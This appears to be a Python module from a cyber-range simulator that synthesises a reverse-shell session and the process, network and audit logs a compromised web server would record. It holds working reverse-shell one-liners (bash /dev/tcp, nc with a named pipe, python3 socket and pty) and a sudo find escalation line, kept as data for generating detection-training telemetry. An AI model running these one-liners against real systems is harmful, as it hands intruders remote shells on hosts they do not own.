"""An interactive shell over one TCP connection: a reverse shell as an intruder drives it from
``nc -lvnp PORT`` on Kali, and what the target logs meanwhile.

The target opens the connection to the intruder's listener (the listener is the server). The
shell speaks first (bash's job-control complaint when it has no terminal, then its prompt,
``www-data@portal:/var/www/html/uploads$ ``); then, for each line the intruder types, netcat
sends the whole line at Enter after the intruder's think and typing time, the shell runs it,
its output comes back in clear, then the next prompt. ``exit`` ends the shell and the target
closes the connection. A line may start another shell (``sudo find . -exec /bin/sh \\; -quit``)
which the session continues in until its ``exit``.

How the shell came to be (:data:`PAYLOADS`, the ``payload`` parameter):

* ``bash``: ``bash -c 'bash -i >& /dev/tcp/ATTACKER/PORT 0>&1'``: ``bash -i`` opens the
  connection itself; no terminal, so no echo of the typed line;
* ``nc-mkfifo``: ``rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ATTACKER PORT >/tmp/f``
  (Debian's netcat-openbsd has no ``-e``): dash's ``$ `` prompt, netcat holds the connection;
* ``python3-pty``: ``python3 -c 'import socket,subprocess,os;s=socket.socket(...);
  s.connect((ATTACKER,PORT));os.dup2(...);import pty; pty.spawn("/bin/bash")'``: bash on a pty,
  so the typed line is echoed, lines end in CR LF and bash's bracketed-paste codes frame the prompt.

Where it was started from (:data:`LAUNCHERS`): ``webshell``, PHP's ``system()`` in a php-fpm
worker (``/bin/sh -c PAYLOAD`` as ``www-data``); ``www-data`` and ``root``, the long-lived shells
an earlier step left (the reverse shell's, the privilege escalation's ``/bin/sh``: their process
ids come from :func:`kept_pid`, the same for every step of a team), in which the intruder starts
a fresh callback for the next task.

On the target (host records, written once the connection's timing is final): the launch's
processes, the ``network_connection`` (``Initiated=true``) of the process holding the socket,
and for every line its processes as the shell's children (:func:`attack_scripts._linux.run`:
process_creation, auditd's execve records, sudo's syslog lines), the files its redirections
write (file_event); builtins (``cd``, ``history -c``, ``unset HISTFILE``) start nothing.
"""
from __future__ import annotations

import posixpath
import re
import time
from dataclasses import dataclass, replace
from typing import Callable, Literal

from pydantic import Field

from attack_scripts import _http, _linux
from attack_scripts._names import login_name
from attack_scripts._tcptime import fit, message_times
from range.core import Strict, derive, rng
from range.topology import Host
from range.traffic import HostLog, Names, Proc, StepContext, TcpSession, ephemeral_port

UPLOADS = "/var/www/html/uploads"  # where PHP ran the web shell, so where its children start
THINK = (0.4, 1.6)  # times the mean think time before a line
KEYS = (0.06, 0.16)  # seconds per character typed
TYPED_MAX = 40  # a longer line is pasted: as long as this many characters take
TOOK = (0.003, 0.06)  # a command's run until its output
LAUNCH_MAX = 0.35  # the step's start to the connection
LINE_SLACK = 0.45  # per line: its run, the messages' overhead, generously

Does = Callable[[float, Proc, "float | None"], list[Proc]]  # (time, shell, when a nested shell ends)


class SessionParams(Strict):
    """What every shell-session technique takes."""
    port: int = Field(default=4444, ge=1, le=65535, description="the intruder's listener port (nc -lvnp PORT)")
    payload: Literal["bash", "nc-mkfifo", "python3-pty"] = Field(
        default="bash", description="the reverse shell one-liner: bash /dev/tcp, nc with a named pipe, python3 pty")
    think: float = Field(default=6.0, gt=0, le=120,
                         description="mean seconds the intruder thinks before each line (each 0.4x to 1.6x)")


# ---- identities the steps of one team share -----------------------------------------------------

def check_paths(paths: list[str] | None, pattern: re.Pattern) -> list[str] | None:
    """A parameter's paths, each absolute and of plain characters (``pattern``), or ValueError."""
    for path in paths or []:
        if not pattern.match(path):
            raise ValueError(f"{path!r} is not an absolute path of letters, digits, '.', '_', '-' and '/'")
    return paths


def kept_pid(layout, node: str, user: str) -> int:
    """The process id of the long-lived shell of ``user`` the intruder keeps on ``node``: the
    reverse shell's (``www-data``) and the privilege escalation's (``root``)."""
    return 3000 + derive("intruder-shell", layout.team, layout.seed, node, user) % 30000


def secret(layout, node: str, what: str, n: int = 16) -> str:
    """A password or token ``what`` on ``node`` (the portal's database password...), the same
    for every step of a team."""
    return Names(rng("node-secret", layout.team, layout.seed, node, what)).token(n)


def admin_of(layout, node: str) -> str:
    """The login of the administrator whose home is on ``node`` (the same for every step)."""
    return login_name(Names(rng("node-admin", layout.team, layout.seed, node)))


# ---- prompts and payloads -------------------------------------------------------------------------

@dataclass
class View:
    """A shell as the intruder sees it: whose, where, how it prompts (:data:`PROMPTS`)."""
    user: str
    cwd: str
    style: str
    pty: bool


def _bash_prompt(v: View, hostname: str) -> str:
    p = f"{v.user}@{hostname}:{v.cwd}{'#' if v.user == 'root' else '$'} "
    return "\x1b[?2004h" + p if v.pty else p


PROMPTS: dict[str, Callable[[View, str], str]] = {
    "bash": _bash_prompt,
    "dash": lambda v, _h: "# " if v.user == "root" else "$ ",
    "none": lambda _v, _h: "",  # sh reading a pipe: not interactive, no prompt
}


def _spawn_bash(log: HostLog, ts: float, parent: Proc, ip: str, port: int, pid: int | None) -> tuple[Proc, Proc]:
    outer = log.process(ts, parent, ["bash", "-c", f"bash -i >& /dev/tcp/{ip}/{port} 0>&1"], "/usr/bin/bash")
    shell = log.process(ts + log.rng.uniform(0.0005, 0.002), outer, ["bash", "-i"], "/usr/bin/bash", pid=pid)
    return shell, shell


def _spawn_fifo(log: HostLog, ts: float, parent: Proc, ip: str, port: int, pid: int | None) -> tuple[Proc, Proc]:
    r = log.rng
    log.process(ts, parent, ["rm", "/tmp/f"], "/usr/bin/rm")
    mk = log.process(ts + r.uniform(0.0008, 0.002), parent, ["mkfifo", "/tmp/f"], "/usr/bin/mkfifo")
    log.file(ts + 0.002, mk, "/tmp/f")
    t = ts + r.uniform(0.003, 0.005)
    log.process(t, parent, ["cat", "/tmp/f"], "/usr/bin/cat")
    shell = log.process(t + 0.0002, parent, ["/bin/sh", "-i"], "/usr/bin/dash", pid=pid)
    nc = log.process(t + 0.0004, parent, ["nc", ip, str(port)], _linux.image("nc"))
    return shell, nc


def _python_code(ip: str, port: int) -> str:
    return (f"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
            f"s.connect((\"{ip}\",{port}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
            "import pty; pty.spawn(\"/bin/bash\")")


def _spawn_python(log: HostLog, ts: float, parent: Proc, ip: str, port: int, pid: int | None) -> tuple[Proc, Proc]:
    py = log.process(ts, parent, ["python3", "-c", _python_code(ip, port)], _linux.image("python3"))
    shell = log.process(ts + log.rng.uniform(0.02, 0.05), py, ["/bin/bash"], "/usr/bin/bash", pid=pid,
                        tty=f"pts{log.rng.randint(0, 2)}")
    return shell, py


@dataclass(frozen=True)
class Payload:
    """A reverse shell one-liner (``line``: ``{ip}``, ``{port}``), the shell it gives (its argv
    and image, prompt style, terminal), what that shell says first, and its processes."""
    line: str
    argv: tuple[str, ...]
    image: str
    style: str
    pty: bool
    banner: str  # {pgrp}: the process group bash cannot take the terminal for
    spawn: Callable[[HostLog, float, Proc, str, int, int | None], tuple[Proc, Proc]]  # -> (shell, socket's)


PAYLOADS: dict[str, Payload] = {
    "bash": Payload("bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'", ("bash", "-i"), "/usr/bin/bash", "bash",
                    False, "bash: cannot set terminal process group ({pgrp}): Inappropriate ioctl for device\n"
                    "bash: no job control in this shell\n", _spawn_bash),
    "nc-mkfifo": Payload("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f",
                         ("/bin/sh", "-i"), "/usr/bin/dash", "dash", False,
                         "/bin/sh: 0: can't access tty; job control turned off\n", _spawn_fifo),
    "python3-pty": Payload("python3 -c '{code}'", ("/bin/bash",), "/usr/bin/bash", "bash", True, "", _spawn_python),
}


def payload_line(name: str, ip: str, port: int) -> str:
    """The one-liner as typed (or passed to PHP's ``system()``)."""
    return PAYLOADS[name].line.format(ip=ip, port=port, code=_python_code(ip, port))


# ---- where a step's shell is started from ---------------------------------------------------------

@dataclass(frozen=True)
class Launch:
    """The process that starts the payload (``wrap``: through ``/bin/sh -c``, as PHP's
    ``system()`` does), whose shell it gives, and the pid the new shell keeps (or the node's next)."""
    parent: Proc
    wrap: bool
    user: str
    keep: int | None


def _from_webshell(ctx: StepContext, node: Host, payload: Payload) -> Launch:
    lay = ctx.layout
    pid = ctx.rng.choice(_linux.pool_pids(lay, node.name, "php-fpm", _linux.PHP_FPM_WORKERS)[1])
    worker = HostLog.daemon(node.name, pid, _linux.image("php-fpm8.2"), "php-fpm: pool www", "www-data",
                            _linux.WWW_UID, UPLOADS)
    return Launch(worker, True, "www-data", kept_pid(lay, node.name, "www-data"))


# the long-lived shells' (image, command line): root's is the /bin/sh the privilege escalation
# opened, www-data's the reverse shell's own
KEPT: dict[str, Callable[[Payload], tuple[str, str]]] = {
    "root": lambda pl: ("/usr/bin/dash", "/bin/sh"),
    "www-data": lambda pl: (pl.image, " ".join(pl.argv)),
}


def kept_shell(layout, node: str, user: str, payload: Payload) -> Proc:
    """The long-lived shell of ``user`` on ``node`` (:func:`kept_pid`, :data:`KEPT`)."""
    image, command_line = KEPT[user](payload)
    return HostLog.daemon(node, kept_pid(layout, node, user), image, command_line, user, _linux.uid_of(layout, user),
                          UPLOADS)


def _from_kept(user: str) -> Callable[[StepContext, Host, Payload], Launch]:
    return lambda ctx, node, pl: Launch(kept_shell(ctx.layout, node.name, user, pl), False, user, None)


LAUNCHERS: dict[str, Callable[[StepContext, Host, Payload], Launch]] = {
    "webshell": _from_webshell,
    "www-data": _from_kept("www-data"),
    "root": _from_kept("root"),
}


# ---- outputs any shell gives ------------------------------------------------------------------------

def _id(v: View) -> str:
    return "uid=0(root) gid=0(root) groups=0(root)\n" if v.user == "root" else \
        "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"


GENERIC: dict[str, Callable[[View, Host], str]] = {
    "id": lambda v, h: _id(v),
    "whoami": lambda v, h: v.user + "\n",
    "hostname": lambda v, h: h.hostname + "\n",
    "pwd": lambda v, h: v.cwd + "\n",
    "uname -a": lambda v, h: f"Linux {h.hostname} 6.1.0-26-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.112-1 "
                             "(2024-09-30) x86_64 GNU/Linux\n",
}


def ls_time(ts: float, now: float) -> str:
    """A file's time as ``ls -l`` shows it at ``now``: ``Nov 28 10:02``, or ``Mar 14  2026``
    when older than six months."""
    return time.strftime("%b %e %H:%M" if now - ts < 182 * 86400 else "%b %e  %Y", time.gmtime(ts))


def chdir(cwd: str, arg: str | None, home: str) -> str:
    """Where ``cd arg`` leads from ``cwd``."""
    if not arg or arg == "~":
        return home
    return posixpath.normpath(posixpath.join(cwd, arg.replace("~", home, 1) if arg.startswith("~/") else arg))


def bound(lines: list[str], think: float) -> float:
    """An upper bound of a session's length (seconds) for the typed ``lines`` (``exit`` included)."""
    chars = sum(min(len(s), TYPED_MAX) + 1 for s in lines) + 5
    return LAUNCH_MAX + (len(lines) + 1) * (THINK[1] * think + TOOK[1] + LINE_SLACK) + chars * KEYS[1] + 0.5


# ---- the session ------------------------------------------------------------------------------------

@dataclass
class _Step:
    index: int  # the typed line's message
    text: str
    does: Does | None
    nest: bool  # the line starts the shell the session continues in
    leave: bool  # the line ends the current shell
    end: int | None = None  # for a nested shell: the message that ends it


class Session:
    """One reverse shell connection of a step: build it line by line (:meth:`type`), take its
    :meth:`session`, then write the host records with :meth:`log` (once, for the build kept)."""

    def __init__(self, ctx: StepContext, target: Host, payload: str, launch: str, port: int, think: float,
                 pace: float = 1.0):
        self.ctx, self.target, self.r = ctx, target, ctx.rng
        self.payload, self.payload_name = PAYLOADS[payload], payload
        self.launch = LAUNCHERS[launch](ctx, target, self.payload)
        self.port, self.think, self.pace = port, think, pace
        self.attacker = ctx.source.ip
        self.rtt = _http.lan_rtt(self.r)
        self.t_launch = ctx.t0 + self.r.uniform(0.01, 0.1)
        self.t = self.t_launch + self.r.uniform(0.004, 0.02)
        self.sport = ephemeral_port(self.r)
        self.now = self.t + self.rtt  # the synthesiser's clock after the last message
        self.messages: list[tuple[float, str, bytes]] = []
        self.steps: list[_Step] = []
        self._open: list[_Step] = []
        self.views = [View(self.launch.user, UPLOADS, self.payload.style, self.payload.pty)]
        self.say(self.r.uniform(0.001, 0.01) * pace, "c",
                 self.payload.banner.format(pgrp=self.launch.parent.pid) + self.prompt())

    @property
    def view(self) -> View:
        return self.views[-1]

    def prompt(self) -> str:
        return PROMPTS[self.view.style](self.view, self.target.hostname)

    def say(self, delay: float, side: str, text: str | bytes) -> int:
        data = text.encode() if isinstance(text, str) else text
        self.messages.append((delay, side, data))
        self.now += delay + _http.send_time(len(data), self.rtt)
        return len(self.messages) - 1

    def type(self, text: str, output: str | None = None, *, does: Does | None = None, nest: View | None = None,
             took: float | Callable[[float], float] | None = None) -> float:
        """The intruder types ``text``; the shell runs it (``does``: its processes, else
        :func:`attack_scripts._linux.run`), prints ``output`` (None: :data:`GENERIC`'s, else
        nothing) and prompts again; ``nest``: the shell the line starts, which the session then
        continues in. ``took``: seconds until the output (else a short run), or a function of the
        time the line reached the target that gives them. Returns that time."""
        r, v = self.r, self.view
        delay = (r.uniform(*THINK) * self.think + min(len(text), TYPED_MAX) * r.uniform(*KEYS)) * self.pace
        index = self.say(delay, "s", text + "\n")
        arrived = self.now
        step = _Step(index, text, does, nest is not None, False)
        self.steps.append(step)
        if v.pty:
            self.say(r.uniform(0.0003, 0.002), "c", text + "\r\n" + ("\x1b[?2004l\r" if v.style == "bash" else ""))
        words = text.split()
        if words[:1] == ["cd"]:
            v.cwd = chdir(v.cwd, words[1] if len(words) > 1 else None, _linux.home_of(v.user))
        if output is None:
            output = GENERIC[text](v, self.target) if text in GENERIC else ""
        if nest is not None:
            self.views.append(nest)
            self._open.append(step)
        wait = took(arrived) if callable(took) else took if took is not None else r.uniform(*TOOK) * self.pace
        if output:
            self.say(wait, "c", output.replace("\n", "\r\n") if v.pty else output)
            wait = r.uniform(0.0002, 0.002)
        if self.prompt():
            self.say(wait, "c", self.prompt())
        return arrived

    def exit(self) -> None:
        """``exit``: leave the current shell (the connection closes after the last one)."""
        r, v = self.r, self.view
        index = self.say((r.uniform(*THINK) * self.think * 0.5 + 4 * r.uniform(*KEYS)) * self.pace, "s", "exit\n")
        self.steps.append(_Step(index, "exit", None, False, True))
        if self._open:
            self._open.pop().end = index
        nl = "\r\n" if v.pty else "\n"
        said = ("exit\r\n" + ("\x1b[?2004l\r" if v.style == "bash" else "")) if v.pty else ""
        said += "exit" + nl if v.style == "bash" else ""  # bash says so on its way out
        if said:
            self.say(r.uniform(0.0003, 0.003), "c", said)
        self.views.pop()
        if self.views and self.prompt():
            self.say(r.uniform(0.001, 0.01), "c", self.prompt())

    def session(self) -> TcpSession:
        while self.views:  # every shell still open ends
            self.exit()
        return TcpSession(t=self.t, client=self.target.ip, server=self.attacker, sport=self.sport, dport=self.port,
                          messages=list(self.messages), close="client_fin", rtt=self.rtt)

    # ---- host records -------------------------------------------------------------------------
    def log(self, sess: TcpSession) -> None:
        """What the target logged for ``sess`` (this build's session): the launch, the
        connection, every line's processes and written files."""
        log = self.ctx.host
        la, pl = self.launch, self.payload
        line = payload_line(self.payload_name, self.attacker, self.port)
        parent = la.parent
        t = self.t_launch
        if la.wrap:
            parent = log.process(t, parent, ["sh", "-c", line], _linux.image("sh"))
            t += log.rng.uniform(0.0003, 0.001)
        shell, holder = pl.spawn(log, t, parent, self.attacker, self.port, la.keep)
        log.connection(sess.t, holder, self.target.ip, sess.sport, self.attacker, self.port)
        shells = [shell]
        times = message_times(sess)
        for st in self.steps:
            at = times[st.index] + log.rng.uniform(0.0002, 0.001)
            until = times[st.end] if st.end is not None else None
            self._run(shells, at, st, until)

    def _run(self, shells: list[Proc], t: float, st: _Step, until: float | None) -> None:
        log = self.ctx.host
        shell = shells[-1]
        words = st.text.split()
        if words[:1] == ["cd"]:
            shells[-1] = replace(shell, cwd=chdir(shell.cwd, words[1] if len(words) > 1 else None,
                                                  _linux.home_of(shell.user)))
            return
        procs = st.does(t, shell, until) if st.does else _linux.run(log, t, shell, st.text)
        for path in _linux.redirections(st.text):
            writer = procs[-1] if procs else shell
            log.file(t + 0.0005, writer, chdir(shell.cwd, path, _linux.home_of(shell.user)))
        if st.nest:
            shells.append(procs[-1])
        if st.leave:
            shells.pop()


def play(ctx: StepContext, p: SessionParams, launch: str, script: Callable[[Session], list[TcpSession]],
         budget: float) -> list[TcpSession]:
    """A step's reverse shell on its one target: ``script`` types its lines into a fresh
    :class:`Session` (launched by :data:`LAUNCHERS` ``launch``) and returns the other connections
    it made; fitted within ``budget`` seconds (:func:`attack_scripts._tcptime.fit`), the host
    records written once for the build kept. Returns the session's connection first."""
    kept: list[Session] = []

    def build(pace: float) -> list[TcpSession]:
        s = Session(ctx, ctx.targets[0], p.payload, launch, p.port, p.think, pace)
        extra = script(s)
        kept[:] = [s]
        return [s.session(), *extra]

    actions = fit(build, ctx.rng, ctx.t0, budget)
    kept[0].log(actions[0])
    return actions
